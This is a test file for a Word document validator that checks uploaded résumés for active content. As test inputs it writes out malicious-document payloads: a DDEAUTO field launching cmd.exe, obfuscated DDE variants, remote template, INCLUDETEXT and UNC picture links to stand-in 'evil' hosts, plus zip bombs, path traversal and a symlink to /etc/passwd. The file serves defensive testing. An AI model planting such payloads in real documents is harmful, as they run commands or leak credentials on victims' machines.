import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { countLoopIterations } from '../../../tests/support/assertions/event-loop-counter.ts';
import { buildDocxResume } from '../../../tests/support/fixtures/resume-factory.ts';
import { buildZip } from '../../../tests/support/fixtures/zip-builder.ts';
import { checkDocx } from './docx-validation.ts';

const validateWithParts = (...parts: Parameters<typeof buildDocxResume>[1] & {}) =>
  checkDocx(buildDocxResume('cv.docx', parts).bytes);

describe('Word document validation', () => {
  it('accepts a plain document', async () => {
    expect(await validateWithParts()).toBe('plain');
  });

  it('accepts a picture that compresses well', async () => {
    expect(await validateWithParts({ name: 'word/media/image1.bmp', content: Buffer.alloc(1_000_000) })).toBe('plain');
  });

  it('requires content types and text', async () => {
    expect(await checkDocx(buildZip([{ name: 'notes.txt', content: 'hello' }]))).toBe('invalid');
    expect(await checkDocx(buildZip([{ name: 'word/document.xml' }]))).toBe('invalid');
    expect(await checkDocx(buildZip([{ name: '[Content_Types].xml' }]))).toBe('invalid');
  });

  it('rejects macros', async () => {
    expect(await validateWithParts({ name: 'word/vbaProject.bin', content: 'macro' })).toBe('invalid');
  });

  it('rejects macros under another name', async () => {
    const types = (type: string) => `<Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`;
    const validateType = (type: string) =>
      checkDocx(buildZip([{ name: '[Content_Types].xml', content: types(type) }, { name: 'word/document.xml' }]));
    expect(await validateType('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml')).toBe('plain');
    expect(await validateType('application/vnd.ms-word.document.macroEnabled.main+xml')).toBe('invalid');
    expect(await validateType('application/vnd.ms-office.vbaProject')).toBe('invalid');
  });

  describe('of relationships', () => {
    const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
    const relation = (type: string, mode = 'External', target = 'http://evil.example/a') =>
      `<Relationships><Relationship Id="r1" Type="${relations}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
    const validateRelations = (content: string | Buffer) => validateWithParts({ name: 'word/_rels/settings.xml.rels', content });

    it('accepts links and own parts', async () => {
      expect(await validateRelations(relation('hyperlink'))).toBe('plain');
      expect(await validateRelations(relation('image', 'Internal', 'media/image1.png'))).toBe('plain');
      expect(await validateRelations(Buffer.from(`\uFEFF${relation('hyperlink')}`, 'utf16le'))).toBe('plain');
    });

    it.each([
      ['entities', `<!DOCTYPE a [<!ENTITY b "c">]>${relation('hyperlink')}`],
      ['broken markup', relation('hyperlink').slice(0, -3)],
      ['invalid UTF-8', Buffer.from('<Relationships a="\x80\xff"/>', 'latin1')],
      ['an empty part', ''],
      ['a part of more than 1 MiB', `<!--${randomBytes(1024 * 1024 + 1).toString('hex')}-->${relation('hyperlink')}`],
    ])('rejects %s', async (_case, content) => {
      expect(await validateRelations(content)).toBe('invalid');
    });

    it.each([
      ['an external template', relation('attachedTemplate')],
      ['an external object', relation('oleObject')],
      ['an external picture', relation('image')],
      ['an external relation of an unknown type', relation('anything')],
      ['an external template with its mode in character references', relation('attachedTemplate', '&#69;xternal')],
      ['an external template in UTF-16', Buffer.from(`\uFEFF${relation('attachedTemplate')}`, 'utf16le')],
      ['an external template in UTF-16 without a mark', Buffer.from(relation('attachedTemplate'), 'utf16le')],
      ['an external template under another namespace prefix', relation('attachedTemplate').replace(/(<\/?)R/g, '$1x:R')],
      ['an embedded object', relation('oleObject', 'Internal', 'embeddings/oleObject1.bin')],
      ['an embedded package', relation('package', 'Internal', 'embeddings/book.xlsx')],
      ['an ActiveX control', relation('control', 'Internal', 'activeX/activeX1.xml')],
      ['an imported chunk', relation('aFChunk', 'Internal', 'chunk.html')],
      [
        'an imported chunk of the strict format',
        relation('aFChunk', 'Internal').replaceAll('schemas.openxmlformats.org', 'purl.oclc.org'),
      ],
      ['a ribbon', relation('ui/extensibility', 'Internal', 'customUI/customUI14.xml')],
    ])('finds %s active', async (_case, content) => {
      expect(await validateRelations(content)).toBe('active');
    });

    it('accepts the spreadsheet behind a chart', async () => {
      const content = relation('package', 'Internal', '../embeddings/book.xlsx');
      expect(await validateWithParts({ name: 'word/charts/_rels/chart1.xml.rels', content })).toBe('plain');
    });

    it('rejects XML larger than its declared size', async () => {
      const bomb = { name: '_rels/.rels', content: Buffer.alloc(900_000, ' '), declaredSize: 20 };
      expect(await validateWithParts(bomb)).toBe('invalid');
    });
  });

  describe('of fields', () => {
    const field = (...instructions: string[]) =>
      `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${instructions.map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
    const story = (content: string, prefix = 'w') =>
      `<w:hdr xmlns:w="urn:w"><w:p>${content}</w:p></w:hdr>`.replaceAll('w:', `${prefix}:`);
    const validateStory = (content: string | Buffer, name = 'word/header1.xml') => validateWithParts({ name, content });

    it.each([
      [
        'links, pages, dates and contents',
        story(field('HYPERLINK "https://example.com/link"', 'x') + field(' PAGE ') + field('TOC \\o')),
      ],
      ['a text about DDE', story('<w:r><w:t>DDE, LINK and INCLUDETEXT</w:t></w:r>')],
      ['a local picture', story(field('INCLUDEPICTURE "photo.png" \\* MERGEFORMAT'))],
      ['a field that begins like one', story(field('LINKED') + field('DATE'))],
    ])('accepts %s', async (_case, content) => {
      expect(await validateStory(content)).toBe('plain');
    });

    it.each([
      ['DDEAUTO', story(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))],
      ['DDE in lower case', story(field(' dde excel'))],
      ['DDEAUTO split into runs', story(field('DD', 'E', 'AUTO', ' cmd'))],
      ['DDEAUTO in character references', story(field('&#68;&#x44;EAUTO cmd'))],
      ['DDEAUTO in CDATA', story(field('<![CDATA[DDEAUTO]]> cmd'))],
      [
        'DDEAUTO around a nested field',
        story(field('DDE', `</w:instrText></w:r>${field('QUOTE 1')}<w:r><w:instrText>`, 'AUTO cmd')),
      ],
      ['DDEAUTO within another field', story(field('IF', `</w:instrText></w:r>${field('DDEAUTO cmd')}<w:r><w:instrText>`))],
      [
        'DDEAUTO without an end',
        story(field('DDEAUTO cmd').replace(/<w:r><w:fldChar w:fldCharType="(separate|end)"\/><\/w:r>/g, '')),
      ],
      ['a simple field', story('<w:fldSimple w:instr=" DDEAUTO cmd "/>')],
      ['another namespace prefix', story(field('DDEAUTO cmd'), 'q')],
      ['white space before the first tag', `${' '.repeat(200)}${story(field('DDEAUTO cmd'))}`],
      ['UTF-16', Buffer.from(`\uFEFF${story(field('DDEAUTO cmd'))}`, 'utf16le')],
      ['an included text', story(field('INCLUDETEXT "https://evil.example/a.docx"'))],
      ['a remote picture', story(field('INCLUDEPICTURE "\\\\\\\\evil\\\\a.png" \\d'))],
    ])('finds %s active', async (_case, content) => {
      expect(await validateStory(content)).toBe('active');
    });

    it.each(['word/footnotes.xml', 'word/document2.xml', 'other/part.bin', 'word/media/image1.png'])('reads %s', async (name) => {
      expect(await validateStory(story(field('DDEAUTO cmd')), name)).toBe('active');
    });

    it('rejects broken markup and more than 10 MiB of it', async () => {
      expect(await validateStory('<w:hdr>')).toBe('invalid');
      const comment = () => `<w:p><!--${randomBytes(225_000).toString('hex')}--></w:p>`;
      const filler = `<w:hdr xmlns:w="urn:w">${comment()}${comment()}</w:hdr>`;
      const parts = Array.from({ length: 12 }, (_, index) => ({ name: `word/h${index}.xml`, content: filler }));
      expect(await validateWithParts(...parts.slice(0, 11))).toBe('plain');
      expect(await validateWithParts(...parts)).toBe('invalid');
    });
  });

  it.each([
    ['elements nested', (count: number) => '<a>'.repeat(count) + '</a>'.repeat(count)],
    ['attributes of one element', (count: number) => `<a ${Array.from({ length: count }, (_, at) => `b${at}=""`).join(' ')}/>`],
  ])('rejects more than 500 %s, which would stay in memory', async (_case, build) => {
    for (const name of ['word/document2.xml', 'word/_rels/header1.xml.rels']) {
      expect(await validateWithParts({ name, content: build(500) })).toBe('plain');
      expect(await validateWithParts({ name, content: build(501) })).toBe('invalid');
    }
  });

  it.each([
    ['an attribute', (filler: string) => `<a b="${filler}"/>`],
    [
      'several attributes',
      (filler: string) => `<a b="${filler.slice(filler.length / 2)}" c="${filler.slice(filler.length / 2)}"/>`,
    ],
    ['a text', (filler: string) => `<a>${filler}</a>`],
    ['a comment', (filler: string) => `<a><!--${filler}--></a>`],
    ['an instruction', (filler: string) => `<a><?b ${filler}?></a>`],
    ['a name', (filler: string) => `<a${filler.replaceAll(' ', 'a')}/>`],
  ])('rejects half a million characters in %s, which would stay in memory', async (_case, build) => {
    for (const name of ['word/document2.xml', 'word/_rels/header1.xml.rels']) {
      const validate = (length: number) => validateWithParts({ name, content: build(' '.repeat(length)), uncompressed: true });
      expect(await validate(500_000)).toBe('plain');
      expect(await validate(600_000)).toBe('invalid');
    }
  });

  it('rejects two parts of one name', async () => {
    expect(await validateWithParts({ name: 'word/document.xml', content: '<other/>' })).toBe('invalid');
  });

  it('rejects encryption', async () => {
    expect(await validateWithParts({ name: 'word/media/a.png', content: 'x', encrypted: true })).toBe('invalid');
  });

  it('rejects a symbolic link', async () => {
    expect(await validateWithParts({ name: 'word/media/a.png', content: '/etc/passwd', symbolicLink: true })).toBe('invalid');
  });

  it('rejects a path outside the archive', async () => {
    expect(await validateWithParts({ name: '../../evil', content: 'x' })).toBe('invalid');
  });

  it.each(['word/notes.xml', 'word/_rels/document.xml.rels'])('lets other work run while it reads a large %s', async (name) => {
    const content = `<a>${'<b> note </b>'.repeat(140_000)}</a>`;
    const counter = countLoopIterations();
    expect(await validateWithParts({ name, content, uncompressed: true })).toBe('plain');
    expect(counter.stop()).toBeGreaterThan(content.length / (64 * 1024));
  });

  it('rejects more than 500 parts', async () => {
    const parts = (count: number) => Array.from({ length: count }, (_, index) => ({ name: `word/part-${index}.xml` }));
    expect(await validateWithParts(...parts(498))).toBe('plain');
    expect(await validateWithParts(...parts(499))).toBe('invalid');
  });

  it('rejects more than 50 MiB unpacked', async () => {
    const large = Array.from({ length: 51 }, (_, index) => ({
      name: `word/media/${index}.bmp`,
      content: Buffer.alloc(1024 * 1024),
    }));
    expect(await validateWithParts(...large.slice(0, 49))).toBe('plain');
    expect(await validateWithParts(...large)).toBe('invalid');
  });

  it('rejects a large part compressed over a hundredfold', async () => {
    expect(await validateWithParts({ name: 'word/media/bomb.xml', content: Buffer.alloc(4 * 1024 * 1024) })).toBe('invalid');
  });

  it.each([
    ['an empty file', Buffer.alloc(0)],
    ['text', Buffer.from('Asha Rao')],
    ['a truncated archive', buildDocxResume().bytes.subarray(0, 60)],
    ['an archive behind a program', Buffer.concat([Buffer.from('MZ'), buildDocxResume().bytes])],
  ])('rejects %s', async (_case, bytes) => {
    expect(await checkDocx(bytes)).toBe('invalid');
  });
});
